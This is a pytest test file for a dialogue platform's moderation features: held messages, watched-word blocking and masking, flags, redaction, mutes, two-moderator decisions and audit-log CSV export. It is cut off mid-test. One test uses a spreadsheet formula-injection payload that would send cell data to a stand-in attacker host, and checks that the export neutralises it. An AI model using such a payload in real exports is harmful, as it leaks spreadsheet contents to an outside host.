"""Moderation over real sockets: who receives what, for every moderation case."""

from __future__ import annotations

import csv
import io
import threading
from datetime import timedelta

import pytest
from sqlalchemy import select, text

from dialogue.extensions import db
from dialogue.models import (
    AuditEntry,
    DialogueSession,
    Membership,
    Message,
    QueueItem,
    WatchedWord,
    utcnow,
)
from dialogue.moderation import audit as audit_log
from dialogue.moderation import settings as moderation_settings
from dialogue.moderation import words as watched_words

from .factories import gen_room
from .helpers import joined, release_database, send, stored, stored_count

pytestmark = pytest.mark.live


@pytest.fixture
def word(ctx):
    """Add a watched word for one test, and take it off the list afterwards."""
    made = []

    def add(term: str, action: str = "hold", **kwargs) -> WatchedWord:
        made.append(watched_words.add_word(None, term, action, **kwargs))
        return made[-1]

    yield add
    db.session.rollback()
    for entry in made:
        watched_words.remove_word(None, entry.id)


def settings(room, **values):
    moderation_settings.update_settings(room.facilitator.user, room.id, values)
    release_database()


class Everyone:
    """Sockets of every kind of person in a room, joined; plus one connected outsider."""

    def __init__(self, clients, room):
        self.room = room
        self.author, self.other = (joined(clients, p, room.id)[0] for p in room.participants[:2])
        self.third = joined(clients, room.participants[2], room.id)[0] if len(room.participants) > 2 else None
        self.moderator, _ = joined(clients, room.moderator, room.id)
        self.facilitator, _ = joined(clients, room.facilitator, room.id)
        self.observer, _ = joined(clients, room.observer, room.id)
        self.outsider = clients(room.outsider)

    def all(self):
        return [c for c in (self.author, self.other, self.third, self.moderator, self.facilitator,
                            self.observer, self.outsider) if c is not None]

    def mark(self):
        """Send a visible marker to everyone, so absence of earlier events is meaningful."""
        marker = send(self.facilitator, self.room.id, "marker")["message"]
        for client in (self.author, self.other, self.moderator, self.observer):
            client.wait_for("message", lambda m: m["id"] == marker["id"])
        return marker


def ids(client, event, message_id):
    return [m for m in client.of(event) if m.get("id") == message_id or m.get("message_id") == message_id]


def test_pre_moderation_reaches_only_author_and_staff_until_approved(ctx, clients):
    room = gen_room(participants=2)
    settings(room, moderation="pre")
    room_clients = Everyone(clients, room)
    held = send(room_clients.author, room.id, "My family left Baku in 1990.")["message"]
    assert held["status"] == "held" and held["body_html"]
    room_clients.moderator.wait_for("queue_item", lambda i: i["message"]["id"] == held["id"])
    room_clients.mark()
    for client in (room_clients.author, room_clients.moderator, room_clients.facilitator):
        assert [m["status"] for m in ids(client, "message", held["id"])] == ["held"]
    for client in (room_clients.other, room_clients.observer, room_clients.outsider):
        assert ids(client, "message", held["id"]) == []
    assert room_clients.author.wait_for("notice")["kind"] == "held"
    for client in (room_clients.other, room_clients.observer, room_clients.moderator, room_clients.outsider):
        assert client.of("notice") == []
    # Staff messages are not held.
    assert send(room_clients.moderator, room.id, "Welcome, everyone.")["message"]["status"] == "visible"

    item = room_clients.moderator.call("queue", {"session_id": room.id})["items"][0]
    assert [r["kind"] for r in item["reasons"]] == ["premoderation"]
    decided = room_clients.moderator.call("decide", {"item_id": item["id"], "action": "approve"})
    assert decided["ok"] and decided["item"]["status"] == "approved"
    for client in (room_clients.other, room_clients.observer, room_clients.author):
        got = client.wait_for("message", lambda m: m["id"] == held["id"] and m["status"] == "visible")
        assert got["body_html"] == "<p>My family left Baku in 1990.</p>" and got["seq"] > held["seq"]
    assert room_clients.author.wait_for("notice", lambda n: n["kind"] == "approved")["message_id"] == held["id"]
    assert ids(room_clients.outsider, "message", held["id"]) == []
    # A participant joining later sees it, in its current state.
    history = room_clients.other.call("history", {"session_id": room.id})["messages"]
    assert [m["status"] for m in history if m["id"] == held["id"]] == ["visible"]


def test_hold_term_and_identifying_info_are_held(ctx, clients, word):
    room = gen_room(participants=2)
    word("wipe them out", "hold", language="en")
    room_clients = Everyone(clients, room)
    by_word = send(room_clients.author, room.id, "Some say W-I-P-E  them  ouuut, I say no.")["message"]
    by_phone = send(room_clients.author, room.id, "Call me on +374 91 234567 after.")["message"]
    by_mail = send(room_clients.author, room.id, "write to anna.k@example.org")["message"]
    assert [m["status"] for m in (by_word, by_phone, by_mail)] == ["held"] * 3
    room_clients.mark()
    for message in (by_word, by_phone, by_mail):
        assert ids(room_clients.other, "message", message["id"]) == []
        assert ids(room_clients.observer, "message", message["id"]) == []
        assert ids(room_clients.moderator, "message", message["id"])
    items = {i["message"]["id"]: i for i in room_clients.moderator.call("queue", {"session_id": room.id})["items"]}
    assert items[by_word["id"]]["reasons"][0]["kind"] == "watched_word"
    assert items[by_phone["id"]]["reasons"][0] == {"kind": "identifying_info", "found": ["phone"]}
    assert items[by_mail["id"]]["reasons"][0] == {"kind": "identifying_info", "found": ["email"]}


def test_block_term_is_refused_and_nothing_is_stored(ctx, clients, word):
    room = gen_room(participants=2)
    word("death to them", "block")
    room_clients = Everyone(clients, room)
    answer = send(room_clients.author, room.id, "Death to them all")
    assert answer["ok"] is False and answer["error"]["code"] == "blocked"
    assert "Death to them" in answer["error"]["message"]
    room_clients.mark()
    assert room_clients.other.of("message")[:-1] == [] and room_clients.moderator.of("queue_item") == []
    assert stored_count(Message, Message.session_id == room.id, Message.author_id == room.participants[0].id) == 0


def test_mask_term_is_posted_masked(ctx, clients, word):
    room = gen_room(participants=2)
    word("scum", "mask")
    room_clients = Everyone(clients, room)
    sent = send(room_clients.author, room.id, "they called us scum at the border")["message"]
    assert sent["status"] == "visible" and "scum" not in sent["body_html"]
    assert room_clients.other.wait_for("message", lambda m: m["id"] == sent["id"])["body_html"] == sent["body_html"]
    assert "scum" not in stored(select(Message.body_source).where(Message.id == sent["id"]))[0]


def test_three_flags_hide_a_message_for_everyone(ctx, clients):
    room = gen_room(participants=4)
    room_clients = Everyone(clients, room)
    fourth, _ = joined(clients, room.participants[3], room.id)
    target = send(room_clients.author, room.id, "You people always lie.")["message"]
    for client in (room_clients.other, room_clients.third):
        assert client.call("flag", {"message_id": target["id"], "reason": "personal_attack"}) == {"ok": True}
    # The same member flagging again counts once.
    assert room_clients.other.call("flag", {"message_id": target["id"], "reason": "hate"}) == {"ok": True}
    item = room_clients.moderator.wait_for("queue_item", lambda i: i["flag_count"] == 2)
    assert item["message"]["status"] == "visible"
    assert fourth.call("flag", {"message_id": target["id"], "reason": "hate", "note": "generalises"}) == {"ok": True}
    for client in (room_clients.author, room_clients.other, room_clients.third, fourth, room_clients.observer):
        got = client.wait_for("message_updated", lambda m: m["id"] == target["id"])
        assert got["status"] == "hidden" and got["body_html"] == ""
    for client in (room_clients.moderator, room_clients.facilitator):
        got = client.wait_for("message_updated", lambda m: m["id"] == target["id"])
        assert got["status"] == "hidden" and "always lie" in got["body_html"]
    assert ids(room_clients.outsider, "message_updated", target["id"]) == []
    item = room_clients.moderator.wait_for("queue_item", lambda i: i["flag_count"] == 3)
    reasons = {r.get("reason"): r.get("count") for r in item["reasons"] if r["kind"] == "flag"}
    assert reasons == {"personal_attack": 2, "hate": 1}
    assert any(r["kind"] == "flag_notes" and r["notes"] == ["generalises"] for r in item["reasons"])
    # Approving restores it for everyone.
    room_clients.moderator.call("decide", {"item_id": item["id"], "action": "approve"})
    for client in (room_clients.author, room_clients.other, room_clients.observer):
        assert client.wait_for("message_updated", lambda m: m["id"] == target["id"] and m["status"] == "visible")


def test_reject_and_redact_update_every_client_live(ctx, clients):
    room = gen_room(participants=3)
    room_clients = Everyone(clients, room)
    rejected = send(room_clients.author, room.id, "first message to reject")["message"]
    secret = "my cousin lives at a place only I should know, zebra-4471"
    redacted = send(room_clients.author, room.id, secret)["message"]
    for message in (rejected, redacted):
        assert room_clients.other.call("flag", {"message_id": message["id"], "reason": "off_topic"})["ok"]
    items = {i["message"]["id"]: i for i in room_clients.moderator.call("queue", {"session_id": room.id})["items"]}
    no_reason = room_clients.moderator.call("decide", {"item_id": items[rejected["id"]]["id"], "action": "reject"})
    assert no_reason["error"]["code"] == "invalid"
    assert room_clients.moderator.call("decide", {"item_id": items[rejected["id"]]["id"], "action": "reject",
                                                  "reason": "Off topic for this phase"})["ok"]
    assert room_clients.moderator.call("decide", {"item_id": items[redacted["id"]]["id"], "action": "redact",
                                                  "reason": "Could identify a person"})["ok"]
    for client in (room_clients.author, room_clients.other, room_clients.third, room_clients.observer):
        assert client.wait_for("message_updated", lambda m: m["id"] == rejected["id"])["status"] == "hidden"
        got = client.wait_for("message_updated", lambda m: m["id"] == redacted["id"])
        assert got["status"] == "redacted" and got["body_html"] == ""
    for client in (room_clients.moderator, room_clients.facilitator):
        got = client.wait_for("message_updated", lambda m: m["id"] == redacted["id"])
        assert got["status"] == "redacted" and got["body_html"] == "", "redacted text is gone for staff too"
    notices = room_clients.author.of("notice")
    assert {"kind": "rejected", "message_id": rejected["id"], "reason": "Off topic for this phase"} in notices
    assert {"kind": "redacted", "message_id": redacted["id"], "reason": "Could identify a person"} in notices
    assert room_clients.other.of("notice") == []
    # The redacted text is nowhere in the database; its content hash stays.
    row = db.session.execute(text("SELECT body_source, body_html, content_hash FROM message WHERE id = :id"),
                             {"id": redacted["id"]}).one()
    db.session.commit()
    assert row[0] == "" and row[1] == "" and len(row[2]) == 64
    assert_text_nowhere("zebra-4471")


def assert_text_nowhere(needle: str) -> None:
    """Search every text column of every table for `needle`."""
    inspector = db.inspect(db.engine)
    columns = [(table, column) for table in inspector.get_table_names() for column in inspector.get_columns(table)]
    for table, column in columns:
        if column["type"].python_type in (str, dict, list):
            count = db.session.execute(text(f'SELECT COUNT(*) FROM "{table}" WHERE CAST("{column["name"]}" AS TEXT) '
                                            "LIKE :needle"), {"needle": f"%{needle}%"}).scalar()
            assert count == 0, f"{needle!r} found in {table}.{column['name']}"
    db.session.commit()


def test_muted_member_cannot_send_until_the_mute_ends(ctx, clients):
    room = gen_room(participants=2)
    room_clients = Everyone(clients, room)
    alice = room.participants[0]
    answer = room_clients.moderator.call("sanction", {"session_id": room.id, "member_id": alice.member_id,
                                                      "action": "mute", "minutes": 10, "reason": "Cool down"})
    assert answer["ok"] and answer["until"]
    notice = room_clients.author.wait_for("notice", lambda n: n["kind"] == "muted")
    assert notice["until"] == answer["until"] and notice["reason"] == "Cool down"
    refused = send(room_clients.author, room.id, "but I want to say")
    assert refused["error"]["code"] == "muted" and refused["error"]["until"] == answer["until"]
    assert room_clients.other.of("notice") == []
    # Time passes: the mute's end moves into the past.
    membership = db.session.get(Membership, alice.membership.id)
    membership.muted_until = utcnow() - timedelta(seconds=1)
    db.session.commit()
    assert send(room_clients.author, room.id, "thank you for waiting")["ok"]


def test_warn_and_unmute_reach_only_the_member(ctx, clients):
    room = gen_room(participants=2)
    room_clients = Everyone(clients, room)
    alice = room.participants[0]
    assert room_clients.moderator.call("sanction", {"session_id": room.id, "member_id": alice.member_id, "action": "warn",
                                                    "reason": "Please speak for yourself"})["ok"]
    assert room_clients.author.wait_for("notice")["kind"] == "warned"
    assert room_clients.moderator.call("sanction", {"session_id": room.id, "member_id": alice.member_id,
                                                    "action": "unmute"})["ok"]
    assert room_clients.author.wait_for("notice", lambda n: n["kind"] == "unmuted")
    room_clients.mark()
    for client in (room_clients.other, room_clients.observer, room_clients.moderator):
        assert client.of("notice") == []


def test_removed_member_is_dropped_at_once(ctx, clients):
    room = gen_room(participants=2)
    room_clients = Everyone(clients, room)
    alice = room.participants[0]
    assert room_clients.moderator.call("sanction", {"session_id": room.id, "member_id": alice.member_id, "action": "remove",
                                                    "reason": "Repeated insults"})["ok"]
    room_clients.author.disconnected.wait(10)
    assert room_clients.author.of("removed") == [{"session_id": room.id, "reason": "removed"}]
    assert room_clients.other.sio.connected and room_clients.other.of("removed") == []


def test_two_moderators_deciding_the_same_item(ctx, clients):
    room = gen_room(participants=2, moderators=2)
    settings(room, moderation="pre")
    author, _ = joined(clients, room.participants[0], room.id)
    first, _ = joined(clients, room.moderators[0], room.id)
    second, _ = joined(clients, room.moderators[1], room.id)
    held = send(author, room.id, "please review")["message"]
    item = first.wait_for("queue_item", lambda i: i["message"]["id"] == held["id"])
    answers: list = []
    barrier = threading.Barrier(2)

    def decide(client, action):
        barrier.wait()
        answers.append(client.call("decide", {"item_id": item["id"], "action": action, "reason": "decided"}))

    threads = [threading.Thread(target=decide, args=(first, "approve")),
               threading.Thread(target=decide, args=(second, "reject"))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(10)
    assert sorted(a["ok"] for a in answers) == [False, True]
    loser = next(a for a in answers if not a["ok"])
    assert loser["error"]["code"] == "conflict"
    winner = next(a for a in answers if a["ok"])["item"]
    release_database()
    assert stored(select(QueueItem.status).where(QueueItem.id == item["id"])) == [winner["status"]]
    # Deciding again is a conflict that changes nothing.
    again = first.call("decide", {"item_id": item["id"], "action": "redact", "reason": "late"})
    assert again["error"]["code"] == "conflict"
    assert stored(select(Message.status).where(Message.id == held["id"]))[0] in ("visible", "hidden")


def test_claims_keep_two_moderators_apart(ctx, clients):
    room = gen_room(participants=2, moderators=2)
    settings(room, moderation="pre")
    author, _ = joined(clients, room.participants[0], room.id)
    first, _ = joined(clients, room.moderators[0], room.id)
    second, _ = joined(clients, room.moderators[1], room.id)
    held = send(author, room.id, "claim me")["message"]
    item = first.wait_for("queue_item", lambda i: i["message"]["id"] == held["id"])
    claimed = first.call("claim", {"item_id": item["id"]})
    assert claimed["item"]["claimed_by"]["id"] == room.moderators[0].member_id
    assert second.wait_for("queue_item", lambda i: i["claimed_by"] is not None)["claimed_by"]["id"] == room.moderators[0].member_id
    assert second.call("claim", {"item_id": item["id"]})["error"]["code"] == "conflict"
    assert first.call("release", {"item_id": item["id"]})["item"]["claimed_by"] is None
    assert second.call("claim", {"item_id": item["id"]})["ok"]


def test_two_key_rule_needs_a_second_moderator(ctx, clients):
    room = gen_room(participants=2, moderators=2, moderator_sides="ab")
    settings(room, moderation="pre", two_key=True)
    author, _ = joined(clients, room.participants[0], room.id)
    other, _ = joined(clients, room.participants[1], room.id)
    first, _ = joined(clients, room.moderators[0], room.id)
    second, _ = joined(clients, room.moderators[1], room.id)
    held = send(author, room.id, "two keys")["message"]
    item = first.wait_for("queue_item", lambda i: i["message"]["id"] == held["id"])
    proposal = first.call("decide", {"item_id": item["id"], "action": "reject", "reason": "Hurtful"})
    assert proposal["ok"] and proposal["item"]["status"] == "pending"
    assert proposal["item"]["awaiting_confirmation"]["by"]["side"] == "Armenia"
    assert first.call("decide", {"item_id": item["id"], "action": "reject", "reason": "again"})["error"]["code"] == "conflict"
    confirmed = second.call("decide", {"item_id": item["id"], "action": "reject", "reason": "Agreed"})
    assert confirmed["item"]["status"] == "rejected"
    assert author.wait_for("notice", lambda n: n["kind"] == "rejected")
    # Removal too: the first key proposes, the member stays until the second.
    target = room.participants[1]
    assert first.call("sanction", {"session_id": room.id, "member_id": target.member_id, "action": "remove",
                                   "reason": "Threats"}) == {"ok": True, "pending": True}
    assert other.sio.connected
    assert second.call("sanction", {"session_id": room.id, "member_id": target.member_id, "action": "remove",
                                    "reason": "Confirmed"})["ok"]
    other.disconnected.wait(10)
    assert other.of("removed") == [{"session_id": room.id, "reason": "removed"}]


def test_refusals(ctx, clients):
    room = gen_room(participants=2)
    settings(room, moderation="pre")
    room_clients = Everyone(clients, room)
    held = send(room_clients.author, room.id, "held one")["message"]
    item = room_clients.moderator.wait_for("queue_item", lambda i: i["message"]["id"] == held["id"])
    # A flag on a message the member cannot see is not_found (the held one, or a made-up id).
    assert room_clients.other.call("flag", {"message_id": held["id"], "reason": "spam"})["error"]["code"] == "not_found"
    assert room_clients.other.call("flag", {"message_id": 10**9, "reason": "spam"})["error"]["code"] == "not_found"
    assert room_clients.outsider.call("flag", {"message_id": held["id"], "reason": "spam"})["error"]["code"] == "not_found"
    visible = send(room_clients.moderator, room.id, "visible")["message"]
    assert room_clients.observer.call("flag", {"message_id": visible["id"], "reason": "spam"})["error"]["code"] == "forbidden"
    assert room_clients.other.call("flag", {"message_id": visible["id"], "reason": "nope"})["error"]["code"] == "invalid"
    assert room_clients.other.call("flag", {"message_id": visible["id"], "reason": "other"})["error"]["code"] == "invalid"
    # Decisions by non-moderators are forbidden.
    for client in (room_clients.author, room_clients.other, room_clients.observer):
        assert client.call("decide", {"item_id": item["id"], "action": "approve"})["error"]["code"] == "forbidden"
        assert client.call("queue", {"session_id": room.id})["error"]["code"] == "forbidden"
    assert room_clients.outsider.call("decide", {"item_id": item["id"], "action": "approve"})["error"]["code"] == "forbidden"
    # A moderator cannot sanction a facilitator; nobody sanctions themselves.
    answer = room_clients.moderator.call("sanction", {"session_id": room.id, "member_id": room.facilitator.member_id,
                                                      "action": "mute", "minutes": 5, "reason": "x"})
    assert answer["error"]["code"] == "forbidden"
    answer = room_clients.moderator.call("sanction", {"session_id": room.id, "member_id": room.moderator.member_id,
                                                      "action": "warn", "reason": "x"})
    assert answer["error"]["code"] == "forbidden"
    answer = room_clients.other.call("sanction", {"session_id": room.id, "member_id": room.participants[0].member_id,
                                                  "action": "warn", "reason": "x"})
    assert answer["error"]["code"] == "forbidden"
    for payload, code in (({"action": "mute", "minutes": 0, "reason": "x"}, "invalid"),
                          ({"action": "mute", "reason": "x"}, "invalid"),
                          ({"action": "ban", "reason": "x"}, "invalid"),
                          ({"action": "warn"}, "invalid")):
        answer = room_clients.moderator.call("sanction", {"session_id": room.id, "member_id": room.participants[0].member_id,
                                                          **payload})
        assert answer["error"]["code"] == code, payload
    assert room_clients.moderator.call("session_settings", {"session_id": room.id, "moderation": "post"})["error"]["code"] == "forbidden"
    assert room_clients.facilitator.call("session_settings", {"session_id": room.id, "moderation": "x"})["error"]["code"] == "invalid"


def test_settings_change_live(ctx, clients):
    room = gen_room(participants=2)
    room_clients = Everyone(clients, room)
    answer = room_clients.facilitator.call("session_settings", {"session_id": room.id, "moderation": "pre",
                                                                "flag_threshold": 2})
    assert answer["ok"] and answer["session"]["moderation"] == "pre" and answer["session"]["flag_threshold"] == 2
    for client in (room_clients.author, room_clients.observer):
        assert client.wait_for("session")["moderation"] == "pre"
    assert send(room_clients.author, room.id, "now held")["message"]["status"] == "held"


def test_bulk_decisions(ctx, clients):
    room = gen_room(participants=2)
    settings(room, moderation="pre")
    room_clients = Everyone(clients, room)
    held = [send(room_clients.author, room.id, f"bulk {i}")["message"] for i in range(3)]
    items = room_clients.moderator.call("queue", {"session_id": room.id})["items"]
    answer = room_clients.moderator.call("decide", {"item_ids": [i["id"] for i in items] + [10**9],
                                                    "action": "approve"})
    assert [r["ok"] for r in answer["results"]] == [True, True, True, False]
    for message in held:
        room_clients.other.wait_for("message", lambda m, i=message["id"]: m["id"] == i)
    assert room_clients.moderator.call("queue", {"session_id": room.id})["items"] == []


def test_audit_log_records_everything_and_exports_csv(ctx, clients, app):
    room = gen_room(participants=3)
    room_clients = Everyone(clients, room)
    alice = room.participants[0]
    target = send(room_clients.author, room.id, "audit me")["message"]
    room_clients.other.call("flag", {"message_id": target["id"], "reason": "spam"})
    item = room_clients.moderator.wait_for("queue_item", lambda i: i["message"]["id"] == target["id"])
    room_clients.moderator.call("decide", {"item_id": item["id"], "action": "reject", "reason": "Spam"})
    room_clients.moderator.call("sanction", {"session_id": room.id, "member_id": alice.member_id, "action": "warn",
                                             "reason": "Be kind"})
    room_clients.moderator.call("sanction", {"session_id": room.id, "member_id": alice.member_id, "action": "mute",
                                             "minutes": 5, "reason": "Cool down"})
    room_clients.facilitator.call("session_settings", {"session_id": room.id, "two_key": True})
    actions = stored(select(AuditEntry.action).where(AuditEntry.session_id == room.id).order_by(AuditEntry.id))
    assert actions == ["flag", "reject", "warn", "mute", "settings"]
    reasons = stored(select(AuditEntry.reason).where(AuditEntry.session_id == room.id).order_by(AuditEntry.id))
    assert reasons == ["spam", "Spam", "Be kind", "Cool down", ""]

    from .test_auth import sign_in

    host = app.test_client()
    sign_in(host, room.facilitator.user.email)
    response = host.get(f"/sessions/{room.id}/audit?format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [r["action"] for r in rows] == actions
    assert rows[1]["reason"] == "Spam" and room.moderator.user.email in rows[1]["actor"]
    filtered = host.get(f"/sessions/{room.id}/audit?action=mute").get_data(as_text=True)
    assert "Cool down" in filtered and "Be kind" not in filtered
    participant = app.test_client()
    sign_in(participant, alice.user.email)
    assert participant.get(f"/sessions/{room.id}/audit").status_code == 403
    moderator = app.test_client()
    sign_in(moderator, room.moderator.user.email)
    assert moderator.get(f"/sessions/{room.id}/audit").status_code == 403


def test_every_moderation_action_is_in_the_audit_log(ctx, clients, app):
    """Each kind of moderation event leaves one entry with who, what, why; all export as CSV."""
    room = gen_room(participants=3, moderators=2)
    settings(room, moderation="pre", flag_threshold=1)
    author, other, third = (joined(clients, p, room.id)[0] for p in room.participants)
    first, _ = joined(clients, room.moderators[0], room.id)
    second, _ = joined(clients, room.moderators[1], room.id)
    facilitator, _ = joined(clients, room.facilitator, room.id)
    alice, bora, chris = room.participants

    def item_of(message):
        return first.wait_for("queue_item", lambda i: i["message"]["id"] == message["id"])["id"]

    approved = send(author, room.id, "one")["message"]                                   # hold
    first.call("decide", {"item_id": item_of(approved), "action": "approve"})            # approve
    other.wait_for("message", lambda m: m["id"] == approved["id"])
    assert other.call("flag", {"message_id": approved["id"], "reason": "spam"})["ok"]     # flag (no hide: approved)
    escalated = send(author, room.id, "two")["message"]
    first.call("decide", {"item_id": item_of(escalated), "action": "escalate", "reason": "Unsure"})
    redacted = send(author, room.id, "three")["message"]
    first.call("decide", {"item_id": item_of(redacted), "action": "redact", "reason": "Names a person"})
    settings(room, moderation="post", two_key=True)                                       # settings
    hidden = send(author, room.id, "four")["message"]
    other.call("flag", {"message_id": hidden["id"], "reason": "hate"})                    # flag + hide
    item = item_of(hidden)
    first.call("decide", {"item_id": item, "action": "reject", "reason": "Hate"})         # propose_reject
    second.call("decide", {"item_id": item, "action": "reject", "reason": "Agreed"})      # confirm + reject
    for action, extra in (("warn", {}), ("mute", {"minutes": 5}), ("unmute", {})):
        assert first.call("sanction", {"session_id": room.id, "member_id": alice.member_id, "action": action,
                                       "reason": f"{action} reason", **extra})["ok"]
    first.call("sanction", {"session_id": room.id, "member_id": chris.member_id, "action": "remove", "reason": "Threats"})
    second.call("sanction", {"session_id": room.id, "member_id": chris.member_id, "action": "remove", "reason": "Threats"})
    third.disconnected.wait(10)

    entries = stored(select(AuditEntry).where(AuditEntry.session_id == room.id).order_by(AuditEntry.id))
    actions = [e.action for e in entries]
    for expected in ("hold", "approve", "flag", "escalate", "redact", "settings", "hide", "propose_reject",
                     "confirm_reject", "reject", "warn", "mute", "unmute", "propose_remove", "remove"):
        assert expected in actions, expected
    by_action = {e.action: e for e in entries}
    assert by_action["redact"].reason == "Names a person" and by_action["redact"].actor_id == room.moderators[0].id
    assert by_action["reject"].actor_id == room.moderators[1].id
    assert by_action["remove"].target_id == str(chris.id) and by_action["remove"].actor_id == room.moderators[1].id
    assert by_action["mute"].details == {"minutes": 5}
    assert actions.count("hide") == 1, "the approved message was not hidden again"
    assert {e.actor_id for e in entries if e.action == "flag"} == {bora.id}

    from .test_auth import sign_in

    host = app.test_client()
    sign_in(host, room.facilitator.user.email)
    rows = list(csv.DictReader(io.StringIO(host.get(f"/sessions/{room.id}/audit?format=csv").get_data(as_text=True))))
    assert [r["action"] for r in rows] == actions
    assert facilitator.sio.connected


def test_word_list_changes_are_audited(ctx, app):
    from .factories import gen_user
    from .test_auth import sign_in

    moderator = gen_user("moderator")
    word = watched_words.add_word(moderator, "audit-term-xyz", "flag")
    watched_words.remove_word(moderator, word.id)
    changes = [(e.action, e.actor_id, e.target_id) for e in audit_log.word_changes(5)]
    assert changes[:2] == [("word_remove", moderator.id, "audit-term-xyz"), ("word_add", moderator.id, "audit-term-xyz")]
    client = app.test_client()
    sign_in(client, moderator.email)
    assert "audit-term-xyz" in client.get("/moderation/words").get_data(as_text=True)
    exported = client.get("/moderation/words/changes.csv").get_data(as_text=True)
    assert "word_add" in exported and "audit-term-xyz" in exported
    assert moderator.email not in exported and f"#{moderator.id}" not in exported, "moderators see no identities"
    assert audit_log.anonymous_actor_label(None, moderator.id) in exported, "the same opaque id names each change"
    admin = app.test_client()
    sign_in(admin, gen_user("admin").email)
    assert moderator.email in admin.get("/moderation/words/changes.csv").get_data(as_text=True)


def test_audit_csv_cells_never_run_as_formulas(ctx):
    from dialogue.models import AuditEntry

    room = gen_room(participants=1)
    entry = AuditEntry(session_id=room.id, actor_id=None, action="warn", target_type="member",
                       target_id="1", reason='=HYPERLINK("https://evil.example/?"&B2,"click")')
    rows = list(csv.reader(io.StringIO(audit_log.audit_csv(room.session, [entry]))))
    assert rows[1][5].startswith("'=HYPERLINK")


def test_replies_cannot_point_at_a_held_message(ctx, clients):
    room = gen_room(participants=2)
    settings(room, moderation="pre")
    author, _ = joined(clients, room.participants[0], room.id)
    held = send(author, room.id, "held")["message"]
    settings(room, moderation="post")
    answer = send(author, room.id, "replying to my held message", reply_to=held["id"])
    assert answer["error"]["code"] == "not_found"


@pytest.mark.parametrize("actor", [str(2**63), "-" + "9" * 30, "٣", "²"])
def test_the_audit_pages_actor_filter_past_64_bits_is_no_filter(ctx, app, actor):
    """`?actor=` that is not an account id (beyond a column's 64 bits, signed, other digits)
    shows the whole log instead of overflowing in the database driver (a 500)."""
    from .test_auth import sign_in

    room = gen_room(participants=1)
    moderation_settings.update_settings(room.facilitator.user, room.id, {"two_key": True})
    host = app.test_client()
    sign_in(host, room.facilitator.user.email)
    for suffix in ("", "&format=csv"):
        response = host.get(f"/sessions/{room.id}/audit?actor={actor}{suffix}")
        assert response.status_code == 200, (suffix, response.status_code)
        assert "settings" in response.get_data(as_text=True)


@pytest.mark.parametrize("threshold", ["٣", "³", "1_0", "9" * 40])
def test_a_flag_threshold_not_in_ascii_digits_is_refused(ctx, app, threshold):
    from .test_auth import post_form, sign_in

    room = gen_room(participants=1)
    host = app.test_client()
    sign_in(host, room.facilitator.user.email)
    response = post_form(host, f"/sessions/{room.id}/moderation", {"moderation": "pre", "flag_threshold": threshold},
                         form_page=f"/sessions/{room.id}/manage", follow_redirects=True)
    assert "Not a valid integer value." in response.get_data(as_text=True)
    session = stored(select(DialogueSession).where(DialogueSession.id == room.id))[0]
    assert (session.moderation_mode, session.flag_threshold) == ("post", 3)


def test_a_removed_moderators_queue_only_socket_stops_receiving_staff_events(ctx, clients):
    """A moderator's queue page calls `queue` without joining the session. When their
    membership is revoked, that socket too is sent `removed` and dropped at once; the staff
    events that follow reach the remaining staff and not the removed moderator."""
    room = gen_room(participants=1, moderators=2)
    staying, leaving = room.moderators
    settings(room, moderation="pre")
    stays, goes = clients(staying), clients(leaving)
    for client in (stays, goes):
        assert client.call("queue", {"session_id": room.id})["ok"]
    host, _ = joined(clients, room.facilitator, room.id)
    author, _ = joined(clients, room.participants[0], room.id)
    # Before the removal both queue-only sockets receive the staff events.
    before = send(author, room.id, "held before")["message"]
    for client in (stays, goes):
        client.wait_for("queue_item", lambda i: i["message"]["id"] == before["id"])

    assert host.call("sanction", {"session_id": room.id, "member_id": leaving.member_id, "action": "remove",
                                  "reason": "No longer on the team"})["ok"]
    assert goes.disconnected.wait(10), "the queue-only socket is dropped"
    assert goes.of("removed") == [{"session_id": room.id, "reason": "removed"}]
    position = goes.mark()

    held = send(author, room.id, "held after")["message"]
    staff_note = send(host, room.id, "staff only", channel="staff")["message"]
    stays.wait_for("queue_item", lambda i: i["message"]["id"] == held["id"])
    stays.wait_for("message", lambda m: m["id"] == staff_note["id"])
    stays.wait_for("message", lambda m: m["id"] == held["id"] and m["status"] == "held")
    assert stays.sio.connected and stays.of("removed") == []
    assert goes.events[position:] == [], "nothing about the session reaches the removed moderator"


def test_staff_hide_and_redact_from_the_room_through_the_queue(ctx, clients):
    room = gen_room(participants=2)
    room_clients = Everyone(clients, room)
    hidden = send(room_clients.author, room.id, "Something against the ground rules")["message"]
    secret = send(room_clients.author, room.id, "My cousin's address is zebra-street 4471")["message"]
    refused = room_clients.other.call("moderate", {"message_id": hidden["id"], "action": "hide", "reason": "No"})
    assert refused["error"]["code"] == "forbidden"
    assert room_clients.moderator.call("moderate", {"message_id": hidden["id"], "action": "hide"})["error"][
        "code"] == "invalid", "a reason is required"
    assert room_clients.moderator.call("moderate", {"message_id": hidden["id"], "action": "ban",
                                                    "reason": "x"})["error"]["code"] == "invalid"
    answer = room_clients.moderator.call("moderate", {"message_id": hidden["id"], "action": "hide",
                                                      "reason": "Against the ground rules"})
    assert answer["ok"] and answer["item"]["status"] == "rejected"
    assert {"kind": "staff"} in answer["item"]["reasons"]
    redacted = room_clients.facilitator.call("moderate", {"message_id": secret["id"], "action": "redact",
                                                          "reason": "Could identify a person"})
    assert redacted["ok"] and redacted["item"]["status"] == "redacted"
    for client in (room_clients.author, room_clients.other, room_clients.observer):
        assert client.wait_for("message_updated", lambda m: m["id"] == hidden["id"])["status"] == "hidden"
        got = client.wait_for("message_updated", lambda m: m["id"] == secret["id"])
        assert got["status"] == "redacted" and got["body_html"] == ""
    notices = room_clients.author.of("notice")
    assert {"kind": "rejected", "message_id": hidden["id"], "reason": "Against the ground rules"} in notices
    again = room_clients.moderator.call("moderate", {"message_id": hidden["id"], "action": "hide", "reason": "x"})
    assert again["error"]["code"] == "conflict"
    actions = {e.action for e in stored(select(AuditEntry).where(AuditEntry.session_id == room.id))}
    assert {"reject", "redact"} <= actions


def test_the_audit_log_credits_holds_to_the_platform_and_filters_by_session_name(ctx, app):
    """A message held by screening is the platform's doing, not its author's; reasons read as
    labels; facilitators filter by a member's session name, and no account number shows."""
    import uuid
    from html import unescape

    from dialogue.moderation import flags
    from dialogue.room import messages

    from .test_auth import sign_in

    room = gen_room(participants=3)
    anahit, leyla, third = room.participants
    moderation_settings.update_settings(room.facilitator.user, room.id, {"moderation": "pre"})
    held, _ = messages.send_message(anahit.user, room.id, uuid.uuid4().hex, "Please wait for me")
